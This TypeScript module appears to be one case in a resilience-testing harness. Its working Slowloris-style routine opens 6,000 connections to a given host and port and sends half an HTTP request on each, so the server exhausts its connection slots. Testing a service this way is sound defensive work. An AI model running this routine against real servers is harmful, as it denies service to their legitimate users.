import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack } from '../attack.js';

const CONNECTIONS = 6_000;
const AT_ONCE = 200;

/** More connections than the service keeps. */
export const attack: Attack = {
  title: 'a stranger opens 6,000 connections and sends half a request on each',
  run: async ({ host, port }) => {
    const sockets: Socket[] = [];
    while (sockets.length < CONNECTIONS) {
      for (let count = 0; count < AT_ONCE; count++) {
        const socket = connect(port, host, () => socket.write(`GET / HTTP/1.1\r\nHost: ${host}\r\n`));
        sockets.push(socket.on('error', () => undefined).resume());
      }
      await sleep(50);
    }
    await sleep(3_000);
    for (const socket of sockets) socket.destroy();
  },
};
